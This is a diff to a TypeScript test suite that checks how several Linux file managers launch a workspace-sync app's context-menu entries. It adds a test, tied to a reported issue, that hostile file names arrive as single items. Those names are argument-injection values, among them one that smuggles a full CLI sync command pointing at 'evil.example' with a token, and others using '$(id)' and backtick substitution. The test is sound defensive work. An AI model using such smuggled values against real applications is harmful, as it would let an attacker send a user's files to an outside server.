@@ -10,6 +10,8 @@ import {
   MENU_LABEL,
   uninstallIntegrations,
 } from '../../src/main/os/integrate';
+import { localPathOf } from '../../src/main/os/file-arg';
+import { parseAppArgs } from '../../src/main/args';
 import { startSandbox, type RunningSandbox } from '../../src/service/sandbox';
 import {
   fakeNotifySend,
@@ -245,119 +247,38 @@ describe('workspace-sync integrate', () => {
 
 // ---- Running an entry the way its file manager does -------------------------------------------
 
-/** g_shell_parse_argv: quotes and backslashes as the shell has them, no expansion at all. */
-function shellParse(line: string): string[] {
-  const out: string[] = [];
-  let cur: string | null = null;
-  for (let i = 0; i < line.length; i++) {
-    const c = line[i]!;
-    if (c === "'") {
-      const end = line.indexOf("'", i + 1);
-      cur = (cur ?? '') + line.slice(i + 1, end);
-      i = end;
-    } else if (c === '"') {
-      cur ??= '';
-      for (i++; line[i] !== '"'; i++) {
-        if (line[i] === '\\' && '$`"\\\n'.includes(line[i + 1]!)) i++;
-        cur += line[i]!;
-      }
-    } else if (c === '\\') {
-      cur = (cur ?? '') + line[++i]!;
-    } else if (/\s/.test(c)) {
-      if (cur !== null) out.push(cur);
-      cur = null;
-    } else {
-      cur = (cur ?? '') + c;
-    }
-  }
-  if (cur !== null) out.push(cur);
-  return out;
-}
-
-/** The value of `key` in `group` of a key file, with its string escapes undone. */
-function keyFileValue(text: string, group: string, key: string): string {
-  const lines = text.split('\n');
-  const start = lines.indexOf(`[${group}]`);
-  const line = lines.slice(start + 1).find((l) => l.startsWith(`${key}=`))!;
-  return line
-    .slice(key.length + 1)
-    .replace(/\\(.)/g, (_, e: string) => ({ s: ' ', n: '\n', t: '\t', r: '\r' })[e] ?? e);
-}
-
-/** The Desktop Entry spec's Exec: double-quoted arguments, %f the file, %% a percent sign. */
-function desktopExec(exec: string, file: string): string[] {
-  const out: string[] = [];
-  let i = 0;
-  while (i < exec.length) {
-    if (exec[i] === ' ') {
-      i++;
-      continue;
-    }
-    let arg = '';
-    if (exec[i] === '"') {
-      for (i++; exec[i] !== '"'; i++) {
-        if (exec[i] === '\\') i++;
-        arg += exec[i]!;
-      }
-      i++;
-    } else {
-      while (i < exec.length && exec[i] !== ' ') arg += exec[i++]!;
-    }
-    out.push(arg === '%f' ? file : arg.replaceAll('%%', '%'));
-  }
-  return out;
-}
-
-/** Nemo's %F with EscapeSpaces: quotes, backslashes and spaces escaped by a backslash. */
-const nemoPath = (p: string) => p.replace(/['"\\\t]/g, '\\$&').replaceAll(' ', '\\ ');
-
-/** Thunar's %f (g_shell_quote), %% a percent sign, any other %-pair dropped. */
-const thunarExpand = (command: string, file: string) =>
-  command.replace(/%(.)/g, (_, c: string) =>
-    c === 'f' ? `'${file.replaceAll("'", `'\\''`)}'` : c === '%' ? '%' : '',
-  );
+/**
+ * Each entry is started by test/cli/fm-launch.py the way its file manager starts it, with
+ * GLib's own parsing (g_shell_parse_argv, g_shell_quote, GDesktopAppInfo's Exec expansion):
+ * Debian's python3 with python3-gi (pyenv's has no gi).
+ */
+const PYTHON = existsSync('/usr/bin/python3') ? '/usr/bin/python3' : 'python3';
+const FM_LAUNCH = path.join(import.meta.dirname, 'fm-launch.py');
 
 interface Launch {
   argv: string[];
   cwd?: string;
-  env?: Record<string, string>;
 }
 
-/** How each file manager starts its entry for `file` (from the entries under `h`). */
-function launches(h: string, file: string): Record<string, Launch> {
+/** How each file manager starts its entry for `items` (from the entries under `h`). */
+function launches(h: string, items: string[]): Record<string, Launch> {
   const [nautilus, nemo, dolphin, dolphin5, uca] = files(h);
-  const thunar = Array.from(
-    parseXml(readFileSync(uca!, 'utf8')).getElementsByTagName('action'),
-  ).find((a) => a.getElementsByTagName('unique-id')[0]?.textContent === ENTRY_ID)!;
-  const command = thunar.getElementsByTagName('command')[0]!.textContent!;
-  const exec = (desktop: string) =>
-    desktopExec(
-      keyFileValue(readFileSync(desktop, 'utf8'), 'Desktop Action copyWorkspaceSyncLink', 'Exec'),
-      file,
-    );
+  const by = (manager: string, entry: string): Launch => ({
+    argv: [PYTHON, FM_LAUNCH, manager, entry, ...items],
+  });
   return {
-    // Nautilus: the script in the folder shown, the selection relative to it and as absolute
-    // paths in the environment.
-    Nautilus: {
-      argv: [nautilus!, path.basename(file)],
-      cwd: path.dirname(file),
-      env: { NAUTILUS_SCRIPT_SELECTED_FILE_PATHS: `${file}\n` },
-    },
+    // Nautilus: the script in the folder shown, the selection relative to it as arguments and
+    // as URIs and paths in the environment.
+    Nautilus: by('nautilus', nautilus!),
+    // Another caller: the arguments alone.
     'Nautilus (arguments only)': {
-      argv: [nautilus!, path.basename(file)],
-      cwd: path.dirname(file),
+      argv: [nautilus!, ...items.map((p) => path.basename(p))],
+      cwd: path.dirname(items[0]!),
     },
-    Nemo: {
-      argv: shellParse(
-        keyFileValue(readFileSync(nemo!, 'utf8'), 'Nemo Action', 'Exec').replace(
-          '%F',
-          nemoPath(file),
-        ),
-      ),
-    },
-    Dolphin: { argv: exec(dolphin!) },
-    'Dolphin (KDE 5)': { argv: exec(dolphin5!) },
-    Thunar: { argv: ['/bin/sh', '-c', thunarExpand(command, file)] },
+    Nemo: by('nemo', nemo!),
+    Dolphin: by('dolphin', dolphin!),
+    'Dolphin (KDE 5)': by('dolphin', dolphin5!),
+    Thunar: by('thunar', uca!),
   };
 }
 
@@ -368,7 +289,7 @@ function run(
   return new Promise((resolve, reject) => {
     const child = spawn(launch.argv[0]!, launch.argv.slice(1), {
       cwd: launch.cwd ?? tmp.dir,
-      env: { ...env, ...launch.env },
+      env,
       stdio: ['ignore', 'ignore', 'pipe'],
     });
     let stderr = '';
@@ -389,14 +310,62 @@ describe('the entries, run as their file managers run them', () => {
     const command = [app, '--copy-link', `an arg: 'single' "double" \`tick\` $HOME \\ 5%`];
     await installIntegrations({ command, env: {}, home: h });
     const file = local(synced, `${NAMES.folder}/${NAMES.odd}`);
-    for (const [manager, launch] of Object.entries(launches(h, file))) {
+    for (const [manager, launch] of Object.entries(launches(h, [file]))) {
       const done = await run(launch, { PATH: process.env.PATH ?? '', RECORD: record });
       expect(done.code, `${manager}: ${done.stderr}`).toBe(0);
       const argv = readFileSync(record, 'utf8').split('\0').slice(0, -1);
-      const expectedPath = manager.startsWith('Nautilus (') ? path.basename(file) : file;
-      expect(argv, manager).toEqual([...command.slice(1), expectedPath]);
+      expect(argv.slice(0, -1), manager).toEqual([...command.slice(1), '--']);
+      const cwd = launch.cwd ?? path.dirname(file);
+      expect(localPathOf(argv.at(-1)!, cwd), manager).toBe(file);
     }
     expect((await uninstallIntegrations({ command, env: {}, home: h })).length).toBe(5);
+  });
+
+  it('pass each hostile name as one item, never a switch (issue 38, attacks 3 and 7)', async () => {
+    const h = path.join(tmp.dir, 'home-hostile');
+    const dir = path.join(tmp.dir, 'hostile');
+    mkdirSync(dir);
+    const names = [
+      // A name that, split on its lines, is a whole CLI command line (attack 3; a name holds
+      // no slash, so the server is a host name).
+      'invoice.pdf\n--cli\nsync\n--server=evil.example:9\n--token=t\n--workspace=1\n--dir=.\n--once',
+      // Nemo split these at `\ ` and cut them at ` #` (attack 7).
+      'back\\ slash\\',
+      'hash #tag #',
+      `it's "q" $(id) \`id\` $HOME`,
+      '100%free %f %F %U %%',
+      '--hidden',
+      ' leading space\ttab',
+      'query?a=1&b;c#frag ü',
+    ];
+    const items = names.map((n) => path.join(dir, n));
+    for (const p of items) writeFileSync(p, 'x');
+    const app = path.join(tmp.dir, 'recorder');
+    const record = path.join(tmp.dir, 'argv-hostile.bin');
+    writeFileSync(app, `#!/bin/sh\nfor a; do printf '%s\\0' "$a"; done > "$RECORD"\n`, {
+      mode: 0o755,
+    });
+    await installIntegrations({ command: [app, '--copy-link'], env: {}, home: h });
+    const received = async (launch: Launch) => {
+      const done = await run(launch, { PATH: process.env.PATH ?? '', RECORD: record });
+      expect(done.code, done.stderr).toBe(0);
+      const argv = readFileSync(record, 'utf8').split('\0').slice(0, -1);
+      // What the app makes of them (args.ts): copy-link items only, no CLI, not hidden.
+      return parseAppArgs(['app', ...argv], launch.cwd ?? dir);
+    };
+    for (const item of items) {
+      for (const [manager, launch] of Object.entries(launches(h, [item]))) {
+        expect(await received(launch), `${manager}: ${JSON.stringify(item)}`).toEqual({
+          copyLink: [item],
+          hidden: false,
+          cli: null,
+        });
+      }
+    }
+    // Nautilus passes the whole selection: one item each.
+    const all = launches(h, items);
+    expect((await received(all.Nautilus!)).copyLink).toEqual(items);
+    expect((await received(all['Nautilus (arguments only)']!)).copyLink).toEqual(items);
   });
 
   it('copy the right URL for a synced file and folder (the CLI, a private X display)', async () => {
@@ -413,7 +382,7 @@ describe('the entries, run as their file managers run them', () => {
     let runs = 0;
     for (const rel of items) {
       const url = await urlOf(sb, synced.client, synced.ids[rel]!);
-      for (const [manager, launch] of Object.entries(launches(home, local(synced, rel)))) {
+      for (const [manager, launch] of Object.entries(launches(home, [local(synced, rel)]))) {
         await setClipboard('before');
         const done = await run(launch, env);
         runs++;
